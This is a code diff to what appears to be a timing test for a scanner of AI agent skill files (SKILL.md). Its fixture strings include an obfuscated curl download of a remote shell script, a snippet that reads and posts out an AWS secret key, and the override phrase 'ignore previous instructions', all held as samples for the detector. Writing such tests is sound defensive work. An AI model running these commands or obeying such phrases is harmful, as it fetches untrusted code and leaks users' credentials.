@@ -177,6 +177,7 @@ def hostile() -> dict[str, str]:
         "excuses": _repeated(
             "never ignore previous instructions, do not send credentials to https://a.b, e.g. an attack. "
         ),
+        "downloads": _repeated("A=curl; $A -O https://a.b.c/x.sh\nwhile True:\n    x += 1\n0x12 send it to a.b.io\n"),
         "programs": _repeated('x = os.environ["AWS_SECRET_KEY"]\ny = base64.b64decode(x)\nrequests.post(u, data=y)\n'),
     }
 
@@ -190,7 +191,9 @@ def hostile_time() -> None:
     rules = [rule for rule in CONTENT if rule.place != "description"]
     for name, text in hostile().items():
         source = Source("SKILL.md", text, script=True)
-        views = cpu_once(lambda source=source: (source.raw, source.plain, source.flowed, source.decoded))
+        views = cpu_once(
+            lambda source=source: (source.raw, source.plain, source.expanded, source.flowed, source.decoded)
+        )
         each = {rule.id: cpu_once(lambda rule=rule, source=source: scan(source, (rule,))) for rule in rules}
         slowest = max(each, key=lambda rule: each[rule])
         total = views + sum(each.values())
